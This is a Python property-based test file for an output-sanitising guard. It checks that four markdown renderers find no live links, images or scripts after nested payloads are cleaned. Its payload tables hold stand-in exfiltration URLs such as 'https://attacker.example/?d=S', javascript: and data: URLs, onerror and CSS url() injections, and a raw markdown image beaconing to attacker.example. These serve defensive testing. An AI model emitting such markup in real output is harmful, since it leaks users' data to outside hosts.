"""Exfiltrate by what a person is shown (E5): nothing that a renderer would fetch or link survives.

The strategies make each construct and nest them; the output is read by four renderers that are not the guard's own.
"""

# ruff: noqa: E501 -- tables of payloads read better unbroken
from __future__ import annotations

import functools
import re
from collections.abc import Callable

import comrak
import markdown_it_pyrs
import mistune
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from lockgate.render import Guard, RenderPolicy
from lockgate.render.visible import find_live

OK = re.compile(r"https://wiki\.partner\.example/[\w.~/-]*|https://img\.partner\.example/pub/[\w.~/-]*", re.ASCII)
QUIET = frozenset({"align", "class", "type", "checked", "disabled", "start", "alt", "rel", "referrerpolicy"})
ACTIVE = frozenset(
    ["script", "style", "iframe", "svg", "object", "form", "link", "meta", "video", "embed", "base", "math", "picture"]
)


@functools.cache
def renderers() -> dict[str, Callable[[str], str]]:
    extensions = comrak.ExtensionOptions()
    for name in ("autolink", "table", "strikethrough", "tasklist", "footnotes"):
        setattr(extensions, name, True)
    options = comrak.RenderOptions()
    options.unsafe_ = True
    plugins = ["table", "strikethrough", "footnotes", "task_lists", "url"]
    return {
        "comrak": lambda text: comrak.render_markdown(text, extension_options=extensions, render_options=options),
        "markdown-it.rs": markdown_it_pyrs.MarkdownIt("gfm").enable("linkify").render,
        "mistune": mistune.create_markdown(escape=False, plugins=plugins),  # type: ignore[dict-item]
        "markdown-it-py": MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render,
    }


def live(html: str) -> list[object]:
    found: list[object] = []
    for node in LexborHTMLParser(html).css("*"):
        if node.tag in ACTIVE:
            found.append(node.tag)
        for name, value in node.attributes.items():
            if name == "style" and re.fullmatch(r"text-align: ?\w+;?", value or ""):
                continue
            if name in QUIET or (name in {"href", "src"} and OK.fullmatch(value or "")):
                continue
            found.append((node.tag, name, value))
    return found


URLS = st.sampled_from(
    [
        "https://attacker.example/?d=S",
        "http://attacker.example",
        "//attacker.example/a",
        "/\\attacker.example",
        "data:text/html,x",
        "javascript:alert(1)",
        "mailto:a@attacker.example",
        "smb://attacker.example/x",
        "file://attacker.example/a",
        "vscode://a/b",
        "https://wiki.partner.example@attacker.example/",
        "https://wiki.partner.example.attacker.example/",
        "HTTPS://ATTACKER.EXAMPLE",
        "https://wiki.partner.example/a?x=S",
        "https://wiki.partner.example/a#S",
        "https://img.partner.example/pub/../x",
        "www.attacker.com",
        "https://wiki.partner.example/good",
        "https://img.partner.example/pub/good.png",
        "a@attacker.com",
        "attacker.com/x",
        "https\\://attacker.com",
        "https&#58;//attacker.com",
        "www\\.attacker.com",
        "https://att\u200backer.com",
        "\\\\attacker.com\\a",
    ]
)
LABELS = st.sampled_from(
    [
        "x",
        "",
        "click `here`",
        "*em*",
        "a]b",
        "[",
        "\\",
        "<b>",
        "|",
        "\n",
        "![",
        "https://attacker.com",
        "\u202e",
        "&amp;",
    ]
)


# {u} is a URL, {a} and {b} are payloads themselves.
SHAPES = (
    "![{a}]({u})", "[{a}]({u} 'title')", "[{a}](<{u}>)", "[{a}][r]\n\n[r]: {u}\n", "![r]\n\n[r]:\n {u}\n'{a}'\n",
    "x[^1]\n\n[^1]: {a} ![y]({u})\n", "<img src={u} alt='{a}'>", "<a href='{u}'>{a}</a>", "<{u}>{a}", "{u}{a}",
    "<div style='background:url({u})'>{a}</div>", "<svg><image href='{u}'/></svg>{a}", "| a | b |\n|---|---|\n| {a} | {b} |\n",
    "> {a}\n", "- {a}\n  - {b}\n", "1. {a}\n\n   {b}\n", "# {a}\n", "**{a}**{b}", "*{a}*_{b}_", "~~{a}~~", "`{a}`{b}", "``{a}`` {b}",
    "```\n{a}\n```\n{b}", "```mermaid\n{a}\n```\n", "```a`b\n{a}\n```\n", "~~~\n{a}\n~~~ {b}", "    {a}\n", "${a}$ $${b}$$",
    "<!-- {a} -->{b}", "{a}\n\n{b}", "{a}{b}", "\\{a} &lt;{b}", "[![{a}]({u})]({u})", "<b>{a}</b>", "<pre>{a}</pre>", "- [ ] {a}",
    "<details>\n\n{a}\n\n</details>", "[{a}]: {u}\n\n[{a}]", "{a}  \n{b}", "<picture><source srcset='{u}'>{a}</picture>", "${u}$",
    "<img src=\"{u}\" onerror='{a}'>", "<a\nhref={u}\n>{a}", "<math href={u}>{a}</math>", "|{a}|\n|-|\n|`{b}|`|\n", "{a}\r{b}",
)  # fmt: skip


def _wrap(inner: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    parts = st.tuples(st.sampled_from(SHAPES), URLS, inner, inner)
    return parts.map(lambda p: p[0].replace("{u}", p[1]).replace("{b}", p[3]).replace("{a}", p[2]))


PIECES = st.sampled_from(
    [
        "evil",
        ".com",
        "https:",
        "//",
        "@",
        "www",
        ".",
        ":",
        "`",
        "|",
        "\n",
        "\t",
        "<",
        "(",
        "!",
        "]",
        "*",
        "_",
        "\\",
        "&#58;",
    ]
)
LEAVES = st.one_of(URLS, LABELS, PIECES, st.text(max_size=6))
PAYLOADS = st.recursive(LEAVES, _wrap, max_leaves=8)
POLICY = RenderPolicy.of(
    links=["https://wiki.partner.example/*"], images=["https://img.partner.example/pub/*"], max_images=99, max_urls=999,
    max_run_urls=10**9, check_every=0,
)  # fmt: skip
SLOW = [HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.filter_too_much]


@given(PAYLOADS)
@settings(max_examples=1200, deadline=None, suppress_health_check=SLOW)
def test_nothing_lives_in_any_renderer(payload: str) -> None:
    """E5: whatever is nested in whatever, four renderers find only what is allowed."""
    made = Guard(POLICY).markdown(payload)
    for name, render in renderers().items():
        found = live(render(made.text))
        assert not found, (name, made.text, found)
    page = Guard(POLICY).html(payload)
    assert not live(page.text), page.text
    assert not live(Guard(POLICY).html(payload, source="html").text)
    assert find_live(Guard(POLICY).text(payload).text) is None


@given(PAYLOADS)
@settings(max_examples=300, deadline=None, suppress_health_check=SLOW)
def test_the_self_check_is_never_surprised(payload: str) -> None:
    strict = Guard(
        RenderPolicy.of(links=["https://wiki.partner.example/*"], images=["https://img.partner.example/pub/*"])
    )
    for made in (strict.markdown(payload), strict.html(payload), strict.email_html(payload), strict.github(payload)):
        assert not [denial for denial in made.denials if denial.reason == "self_check"], made.text


@given(PAYLOADS, st.data())
@settings(max_examples=300, deadline=None, suppress_health_check=SLOW)
def test_any_chunking_gives_the_same_output(payload: str, data: st.DataObject) -> None:
    """E5: a stream releases nothing that a later chunk turns live, and chunks do not matter."""
    sink = data.draw(st.sampled_from(["markdown", "html", "text", "terminal"]))
    whole = Guard(POLICY).stream(sink)
    expected = whole.feed(payload) + whole.close()
    pieces = Guard(POLICY).stream(sink)
    raw = payload.encode("utf-8", "surrogatepass")
    out, at = "", 0
    if b"\xed" in raw:
        return
    while at < len(raw):
        size = data.draw(st.integers(1, max(1, len(raw) // 3)))
        out += pieces.feed(raw[at : at + size])
        if sink == "markdown":
            for name, render in renderers().items():
                assert not live(render(out)), (name, out)
        at += size
    out += pieces.close()
    assert out == expected
    single = Guard(POLICY).stream(sink)
    assert "".join(single.feed(raw[i : i + 1]) for i in range(len(raw))) + single.close() == expected


def test_the_probe_sees_live_sinks_where_nothing_guards() -> None:
    """Negative control: the raw payload is live in every renderer, so the walk is not blind."""
    raw = "![x](https://attacker.example/?d=S) <img src=//attacker.example>"
    assert all(live(render(raw)) for render in renderers().values())
    assert find_live("see https://attacker.example")


@pytest.mark.parametrize(
    "text", ["Just words, no marks", "Ein Satz mit Umlauten: \u00e4\u00f6\u00fc", "one\n\ntwo\nthree"]
)
def test_words_without_marks_are_unchanged(text: str) -> None:
    assert Guard(POLICY).markdown(text).text == text + "\n"
